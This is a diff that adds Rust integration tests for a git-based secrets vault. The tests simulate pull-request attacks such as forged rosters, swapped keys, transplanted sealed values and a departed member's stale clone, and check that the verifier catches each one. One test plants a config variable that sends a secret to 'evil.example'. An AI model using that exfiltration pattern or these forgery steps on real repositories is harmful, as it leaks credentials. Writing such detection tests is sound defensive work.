@@ -1,0 +1,391 @@
+//! What a pull request can do to a vault, by whoever holds no key, or too little of one: `verify
+//! --since`, which holds none either, exits 1 and names the file.
+//!
+//! Each attack starts from a vault with a history: alice owns it, bob may read production, carol may
+//! write in development, a machine may read one name, dave could write in production until he left.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::fs;
+use std::os::unix::fs::symlink;
+
+use repovault::vault::format::{request_path, write_request};
+use repovault::vault::model::{Access, Request, Signing};
+
+use crate::support::craft::{self, Person};
+use crate::support::refusal::stocked;
+use crate::support::sandbox::Sandbox;
+
+const ROSTER: &str = ".vault/members.toml";
+const PRODUCTION: &str = ".vault/production.toml";
+const URL: &str = ".vault/production/DATABASE_URL.toml";
+const OTHER: &str = ".vault/production/OTHER.toml";
+const EVE: &str = ".vault/requests/eve.toml";
+
+struct Team {
+    sandbox: Sandbox,
+    bob: Person,
+    carol: Person,
+    dave: Person,
+    machine: Person,
+}
+
+/// The team; the branch `joined` is the time before dave left. Eve asks to join.
+fn team() -> Team {
+    let sandbox = stocked();
+    let bob = craft::enrol(&sandbox, "bob", &[("production", Access::Read)]);
+    let carol = craft::enrol(&sandbox, "carol", &[("development", Access::Write)]);
+    let dave = craft::enrol(&sandbox, "dave", &[("production", Access::Write)]);
+    let names = Access::Names(["OTHER".parse().unwrap()].into());
+    let machine = craft::enrol(&sandbox, "machine", &[("production", names)]);
+    ask(&sandbox, &Person::new());
+    sandbox.commit("the team");
+    sandbox.git(&["branch", "joined"]);
+    sandbox.quick(&["members", "remove", "dave", "--yes"]);
+    sandbox.commit("dave has left");
+    let team = Team { sandbox, bob, carol, dave, machine };
+    assert_eq!(team.named(), files(&[]), "nothing is wrong yet");
+    team
+}
+
+/// Eve's request to join, with these keys.
+fn ask(sandbox: &Sandbox, person: &Person) {
+    let member = person.member();
+    let (name, vault) = ("eve".parse().unwrap(), sandbox.id().parse().unwrap());
+    let (recipient, signing): (_, Signing) = (member.recipient, member.signing.unwrap());
+    let request = Request { name, vault, recipient, signing };
+    fs::create_dir_all(sandbox.store("requests")).unwrap();
+    let path = sandbox.store(&request_path(&request.name));
+    fs::write(path, write_request(&request, &person.key)).unwrap();
+}
+
+fn files(names: &[&str]) -> BTreeSet<String> {
+    names.iter().map(|name| (*name).to_owned()).collect()
+}
+
+impl Team {
+    /// The files of all findings of `verify --since HEAD`, whose status says whether there are any.
+    fn named(&self) -> BTreeSet<String> {
+        let verify = ["verify", "--since", "HEAD", "--json"];
+        let outcome = self.sandbox.vault(&verify).without("HOME").outcome();
+        let report: serde_json::Value = serde_json::from_slice(&outcome.output).unwrap();
+        let findings = report["findings"].as_array().unwrap();
+        assert_eq!(outcome.status, i32::from(!findings.is_empty()), "{report}");
+        findings.iter().map(|finding| finding["file"].as_str().unwrap().to_owned()).collect()
+    }
+
+    /// Exactly these files are named. Then everything is as it was.
+    #[track_caller]
+    fn caught(&self, names: &[&str]) {
+        assert_eq!(self.named(), files(names));
+        self.restore();
+    }
+
+    fn restore(&self) {
+        self.sandbox.git(&["checkout", "--quiet", "HEAD", "--", "."]);
+        self.sandbox.git(&["clean", "--quiet", "-fd"]);
+    }
+
+    fn read(&self, path: &str) -> String {
+        fs::read_to_string(self.sandbox.repo().join(path)).unwrap()
+    }
+
+    fn write(&self, path: &str, text: &str) {
+        fs::write(self.sandbox.repo().join(path), text).unwrap();
+    }
+
+    /// Replaces text in a file, where it is.
+    fn edit(&self, path: &str, from: &str, to: &str) {
+        let text = self.read(path);
+        assert!(text.contains(from), "{path}: {from}");
+        self.write(path, &text.replace(from, to));
+    }
+
+    /// The value of `key` in the table of `member`.
+    fn field(&self, member: &str, key: &str) -> String {
+        let roster = self.read(ROSTER);
+        let (_, table) = roster.split_once(&format!("[members.{member}]\n")).unwrap();
+        let mut lines = table.lines().take_while(|line| !line.is_empty());
+        lines.find_map(|line| line.strip_prefix(&format!("{key} = "))).unwrap().to_owned()
+    }
+}
+
+#[test]
+fn whoever_adds_himself_is_caught() {
+    let team = team();
+    let mallory = Person::new();
+    // The roster with mallory in it, exactly as vault would write it, with the genuine signature.
+    let signature = team.read(ROSTER).lines().last().unwrap().to_owned();
+    for signed in [false, true] {
+        craft::resign_roster(&team.sandbox, &mallory.key, |roster| {
+            let mut member = mallory.member();
+            member.access.insert("production".parse().unwrap(), Access::Write);
+            roster.members.insert("mallory".parse().unwrap(), member);
+            roster.revision += 1;
+        });
+        if !signed {
+            let body = craft::body(&team.sandbox, "members.toml");
+            team.write(ROSTER, &format!("{body}{signature}\n"));
+        }
+        team.caught(&[ROSTER]);
+    }
+    // Bob's place is not his either, nor a data key that somebody sealed to him.
+    let own = mallory.identity.recipient().to_string();
+    team.edit(ROSTER, &team.field("bob", "recipient"), &format!("\"{own}\""));
+    team.caught(&[ROSTER]);
+    let sealed = team.read(PRODUCTION);
+    let line = sealed.lines().find(|line| line.starts_with("sealed.machine")).unwrap();
+    team.edit(PRODUCTION, line, &format!("{line}\n{}", line.replace("machine", "mallory")));
+    team.caught(&[PRODUCTION]);
+}
+
+#[test]
+fn whoever_swaps_keys_in_the_roster_is_caught() {
+    let team = team();
+    let mallory = Person::new().member();
+    let recipient = format!("\"{}\"", mallory.recipient);
+    let key = mallory.signing.unwrap().signer;
+    let signer = format!("\"{}\"", repovault::crypto::base64_encode(key.as_bytes()));
+    for member in ["alice", "bob", "carol", "machine"] {
+        team.edit(ROSTER, &team.field(member, "recipient"), &recipient);
+        team.caught(&[ROSTER]);
+        team.edit(ROSTER, &team.field(member, "signer"), &signer);
+        team.caught(&[ROSTER]);
+    }
+}
+
+#[test]
+fn whoever_swaps_keys_in_a_request_is_caught() {
+    let team = team();
+    let request = team.read(EVE);
+    let mallory = Person::new();
+    ask(&team.sandbox, &mallory);
+    let forged = team.read(EVE);
+    // All of it, signed by its own signer, as anybody can.
+    team.caught(&[EVE]);
+    for key in ["recipient", "signer", "signing_key", "signature"] {
+        let line = |text: &str| {
+            text.lines().find(|line| line.starts_with(&format!("{key} = "))).unwrap().to_owned()
+        };
+        team.edit(EVE, &line(&request), &line(&forged));
+        team.caught(&[EVE]);
+    }
+    // Under another name, and where somebody has this name.
+    for name in ["zoe", "bob", "dave"] {
+        let path = format!(".vault/requests/{name}.toml");
+        team.write(&path, &request.replace("eve", name));
+        team.caught(&[&path]);
+    }
+}
+
+/// What one change wrote together counts only together.
+#[test]
+fn old_and_new_files_of_one_change_are_caught_in_every_mixture() {
+    let team = team();
+    let changed = team.sandbox.git(&["diff", "--name-only", "joined", "HEAD"]);
+    let changed: Vec<&str> = changed.lines().collect();
+    assert_eq!(changed, [ROSTER, PRODUCTION, URL, OTHER]);
+    for mixture in 1..1u32 << changed.len() {
+        let is_old = |at: &usize| mixture >> at & 1 == 1;
+        let old: Vec<&str> = (0..changed.len()).filter(is_old).map(|at| changed[at]).collect();
+        let checkout = [&["checkout", "--quiet", "joined", "--"], &old[..]].concat();
+        team.sandbox.git(&checkout);
+        let named = team.named();
+        if old.contains(&PRODUCTION) && !old.contains(&ROSTER) {
+            // Below a file that does not hold nothing is read.
+            assert_eq!(named, files(&[PRODUCTION]), "{old:?}");
+        } else {
+            assert!(named.is_superset(&files(&old)), "{old:?}: {named:?}");
+        }
+        team.restore();
+    }
+}
+
+#[test]
+fn whatever_is_deleted_is_named() {
+    let team = team();
+    for path in [URL, OTHER, PRODUCTION, ROSTER] {
+        fs::remove_file(team.sandbox.repo().join(path)).unwrap();
+        team.caught(&[path]);
+    }
+    fs::remove_dir_all(team.sandbox.store("production")).unwrap();
+    team.caught(&[URL, OTHER]);
+    fs::remove_dir_all(team.sandbox.store("")).unwrap();
+    team.caught(&[".vault"]);
+    fs::remove_file(team.sandbox.repo().join("vault.toml")).unwrap();
+    let gone = team.sandbox.vault(&["verify", "--since", "HEAD"]).outcome();
+    assert_eq!(gone.status, 2, "{}", gone.said);
+}
+
+#[test]
+fn whatever_is_no_file_of_its_own_is_named() {
+    let team = team();
+    let outside = team.sandbox.home().join("outside");
+    for path in [URL, PRODUCTION, ROSTER, EVE] {
+        let file = team.sandbox.repo().join(path);
+        fs::rename(&file, &outside).unwrap();
+        symlink(&outside, &file).unwrap();
+        team.caught(&[path]);
+    }
+    let lower = ".vault/production/Database_Url.toml";
+    team.write(lower, &team.read(URL));
+    team.caught(&[".vault/production"]);
+}
+
+#[test]
+fn whoever_renames_an_environment_is_caught() {
+    let team = team();
+    let store = |path: &str| team.sandbox.store(path);
+    let rename = |from: &str, to: &str| {
+        for ending in ["", ".toml"] {
+            fs::rename(store(&format!("{from}{ending}")), store(&format!("{to}{ending}"))).unwrap();
+        }
+        let file = format!(".vault/{to}.toml");
+        team.write(&file, &team.read(&file).replace(from, to));
+        for name in ["DATABASE_URL", "OTHER"] {
+            let file = format!(".vault/{to}/{name}.toml");
+            if team.sandbox.repo().join(&file).exists() {
+                team.write(&file, &team.read(&file).replace(from, to));
+            }
+        }
+    };
+    rename("production", "live");
+    team.caught(&[PRODUCTION, URL, OTHER, ".vault/live", ".vault/live.toml"]);
+    rename("production", "live");
+    team.edit(ROSTER, "production", "live");
+    team.caught(&[ROSTER]);
+    // One in the place of another, so that a developer's values are production's.
+    rename("production", "aside");
+    rename("development", "production");
+    rename("aside", "development");
+    team.caught(&[PRODUCTION, ".vault/development.toml", OTHER]);
+}
+
+#[test]
+fn whoever_transplants_what_was_sealed_is_caught() {
+    let team = team();
+    let seeds = [("alice", "bob", "signing_key"), ("bob", "alice", "signing_key")];
+    for (from, to, key) in seeds {
+        team.edit(ROSTER, &team.field(to, key), &team.field(from, key));
+        team.caught(&[ROSTER]);
+    }
+    let signing_key = format!("signing_key = {}\n", team.field("bob", "signing_key"));
+    let admin =
+        format!("{signing_key}admin = true\nauthority = {}\n", team.field("alice", "authority"));
+    team.edit(ROSTER, &signing_key, &admin);
+    team.caught(&[ROSTER]);
+    let text = team.read(PRODUCTION);
+    let sealed: BTreeMap<&str, &str> =
+        text.lines().filter_map(|line| line.strip_prefix("sealed.")?.split_once(" = ")).collect();
+    for (from, to) in [("alice", "machine"), ("bob", "alice")] {
+        team.edit(PRODUCTION, sealed[to], sealed[from]);
+        team.caught(&[PRODUCTION]);
+    }
+    let value =
+        |text: &str| text.lines().find(|line| line.starts_with("sealed = ")).unwrap().to_owned();
+    team.edit(URL, &value(&team.read(URL)), &value(&team.read(OTHER)));
+    team.caught(&[URL]);
+}
+
+/// Each of them holds a genuine key: a reader, a writer elsewhere, a limited machine, who left.
+#[test]
+fn whoever_signs_what_he_may_not_is_caught() {
+    let team = team();
+    let people = [
+        ("bob", &team.bob),
+        ("carol", &team.carol),
+        ("dave", &team.dave),
+        ("machine", &team.machine),
+    ];
+    for (name, person) in people {
+        for signer in [name, "alice"] {
+            craft::resign_entry(&team.sandbox, "production", "OTHER", &person.key, |entry| {
+                entry.signer = signer.parse().unwrap();
+                entry.revision += 1;
+            });
+            team.caught(&[OTHER]);
+            craft::resign_entry(&team.sandbox, "production", "OTHER", &person.key, |entry| {
+                entry.signer = signer.parse().unwrap();
+                (entry.sealed, entry.revision) = (None, entry.revision + 1);
+            });
+            team.caught(&[OTHER]);
+        }
+        craft::resign_environment(&team.sandbox, "production", &person.key, |file| {
+            file.revision += 1;
+        });
+        team.caught(&[PRODUCTION]);
+        craft::resign_roster(&team.sandbox, &person.key, |roster| roster.revision += 1);
+        team.caught(&[ROSTER]);
+    }
+}
+
+/// His clone is from before, his key opens it, and git merges his branch without a conflict.
+#[test]
+fn whoever_left_and_works_on_in_his_old_clone_is_caught() {
+    let team = team();
+    let sandbox = &team.sandbox;
+    let key = team.dave.key_file(sandbox).display().to_string();
+    sandbox.git(&["checkout", "--quiet", "-b", "daves", "joined"]);
+    for name in ["NEW", "OTHER"] {
+        let set = ["set", name, "-e", "production", "-q"];
+        let set = sandbox.vault(&set).variable("VAULT_KEY_FILE", &key).input("dave's");
+        set.variable("VAULT_ID", &sandbox.id()).without("HOME").any_change().check();
+        sandbox.commit(name);
+    }
+    sandbox.git(&["checkout", "--quiet", "main"]);
+    sandbox.git(&["merge", "--quiet", "--no-commit", "--no-ff", "daves~"]);
+    assert_eq!(team.named(), files(&[".vault/production/NEW.toml"]));
+    sandbox.git(&["reset", "--quiet", "--hard"]);
+    // And everything of his clone over everything of ours: in its roster he may still write.
+    sandbox.git(&["checkout", "--quiet", "daves", "--", ".vault"]);
+    let named = team.named();
+    assert_eq!(named, files(&[ROSTER, PRODUCTION, URL]));
+}
+
+/// A vault of the attacker's own making, in which everybody may open everything.
+#[test]
+fn whoever_replaces_the_whole_vault_is_caught() {
+    let team = team();
+    let attacker = stocked();
+    for (name, person) in [("bob", &team.bob), ("carol", &team.carol), ("dave", &team.dave)] {
+        let access = [("development", Access::Write), ("production", Access::Write)];
+        craft::enrol_person(&attacker, name, &access, person);
+    }
+    fs::remove_dir_all(team.sandbox.store("")).unwrap();
+    fs::rename(attacker.store(""), team.sandbox.store("")).unwrap();
+    team.caught(&[ROSTER]);
+}
+
+/// Git would leave new files out, or hide what changed: no file of the vault is another one.
+#[test]
+fn whoever_tells_git_something_else_about_the_vault_is_shown() {
+    let team = team();
+    team.write(".vault/.gitignore", "*\n");
+    team.write(".vault/.gitattributes", "* -text linguist-generated -diff\n");
+    let expected = "::notice title=vault verify::compared with HEAD = [..]
+::warning file=.vault/requests/eve.toml,[..]
+::warning file=.vault/.gitattributes,title=vault verify::.vault/.gitattributes: is another one; vault does not change it
+::warning file=.vault/.gitignore,title=vault verify::.vault/.gitignore: is another one; vault does not change it
+";
+    let github = ["verify", "--since", "HEAD", "--format", "github"];
+    team.sandbox.vault(&github).without("HOME").prints(expected).check();
+}
+
+/// `vault.toml` grants nothing, so this is no finding; who reviews it is told.
+#[test]
+fn whoever_asks_for_names_through_vault_toml_is_shown() {
+    let team = team();
+    let config = team.read("vault.toml");
+    let asking = format!(
+        "{config}\n[steps.test]\nnames = [\"DATABASE_URL\"]\n
+[environments.production.variables]\nHOOK = \"https://evil.example/${{OTHER}}\"\n"
+    );
+    team.write("vault.toml", &asking);
+    let github = ["verify", "--since", "HEAD", "--format", "github"];
+    let expected = "::notice title=vault verify::compared with HEAD = [..]
+::warning file=.vault/requests/eve.toml,title=vault verify::eve asks to join with recipient [..]
+::warning file=vault.toml,title=vault verify::vault.toml: the variable HOOK of production is new or changed, and carries OTHER
+::warning file=vault.toml,title=vault verify::vault.toml: the step test asks for more: DATABASE_URL
+";
+    team.sandbox.vault(&github).without("HOME").prints(expected).check();
+    team.caught(&[]);
+}
